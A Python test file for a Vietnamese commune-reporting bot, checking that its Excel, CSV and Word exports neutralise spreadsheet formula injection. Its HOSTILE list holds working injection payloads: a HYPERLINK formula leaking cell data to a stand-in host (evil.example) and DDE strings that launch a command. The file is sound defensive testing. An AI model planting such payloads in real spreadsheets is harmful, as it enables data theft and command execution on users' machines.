"""Exports are data: hostile names never become spreadsheet formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.cli.reports import render_csv
from bot.core.engine import Engine
from bot.stats.coverage import commune_coverage
from bot.storage.db import transaction
from bot.storage.imports import import_villages
from tests.factories import Chat, grant

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tThôn Tab",
]


async def import_hostile(sessions: async_sessionmaker[AsyncSession], tmp_path: Path) -> None:
    path = tmp_path / "villages.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["commune", "village", "households_total"])
        for n, name in enumerate(HOSTILE):
            writer.writerow(["Kim Thành", name, 100 + n])
    async with transaction(sessions) as session:
        await import_villages(session, path)


async def test_the_xlsx_report_holds_no_formula(
    engine: Engine, commune: int, sessions: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    await import_hostile(sessions, tmp_path)
    staff = Chat(engine, user="staff")
    await grant(engine, staff, "staff")
    await staff.say("/xuatbaocao")
    await staff.press("Excel")
    document = next(r.document for r in staff.replies if r.document)
    book = openpyxl.load_workbook(io.BytesIO(document))
    texts, numbers = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
                elif isinstance(cell.value, int | float):
                    numbers.append(cell.value)
    assert "'" + HOSTILE[0] in texts  # shown as typed, as text
    assert 104 in numbers  # numbers stay numbers


async def test_the_csv_statistics_neutralise_formulas(
    commune: int, sessions: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    await import_hostile(sessions, tmp_path)
    async with sessions() as session:
        rows = list(csv.reader(io.StringIO(render_csv(await commune_coverage(session)))))
    villages = [row[1] for row in rows[1:]]
    assert "'" + HOSTILE[0] in villages and "'+1+2" in villages
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in villages)
    totals = [row[2] for row in rows[1:]]
    assert "104" in totals  # a number is written as it is


async def test_the_emulation_and_award_files_hold_no_formula_and_open(
    commune: int, sessions: async_sessionmaker[AsyncSession], tmp_path: Path
) -> None:
    from datetime import datetime

    import docx

    from bot.stats.awards import award_proposals
    from bot.stats.emulation import emulation_period
    from bot.stats.emulation_files import (
        awards_docx,
        awards_xlsx,
        emulation_docx,
        emulation_xlsx,
        period_docx,
        period_xlsx,
    )
    from bot.storage.models import Unit
    from bot.storage.units import import_units
    from tests.factories import add_unit_report

    path = tmp_path / "units.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["commune", "kind", "name", "members_total"])
        for n, name in enumerate([*HOSTILE, "Hợp tác xã\x07 Chuông\x01"]):
            writer.writerow(["Kim Thành", "co quan", name, 10 + n])
    async with transaction(sessions) as session:
        await import_units(session, path)
    async with sessions() as session:
        ids = {u.name: u.id for u in await session.scalars(select(Unit))}
    assert "Hợp tác xã Chuông" in ids  # control characters are not kept
    for n, unit_id in enumerate(ids.values()):
        await add_unit_report(
            sessions,
            unit_id,
            2026,
            learned=9,
            results=HOSTILE[n % len(HOSTILE)],
            initiatives="@SUM(1+1)",
            nominations=[{"kind": "ca_nhan", "name": "=Nguyễn", "achievement": "-1+1"}],
            submitted_at="2026-12-02T09:00+07:00",
        )
    now = datetime.fromisoformat("2026-12-10T10:00+07:00")
    async with sessions() as session:
        [data] = await emulation_period(session, commune, 2026, 2026, now)
        _, proposals = await award_proposals(session, commune, 2026, now)
        years = await emulation_period(session, commune, 2025, 2026, now)
    for built in (
        emulation_xlsx(data),
        awards_xlsx(data, proposals),
        period_xlsx(years),
    ):
        book = openpyxl.load_workbook(io.BytesIO(built))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                    if isinstance(cell.value, str):
                        assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
    text = ""
    for built in (emulation_docx(data), awards_docx(data, proposals), period_docx(years)):
        document = docx.Document(io.BytesIO(built))
        cells = [c.text for t in document.tables for r in t.rows for c in r.cells]
        text += "\n".join([p.text for p in document.paragraphs] + cells)
    assert HOSTILE[0] in text  # in Word, shown as typed
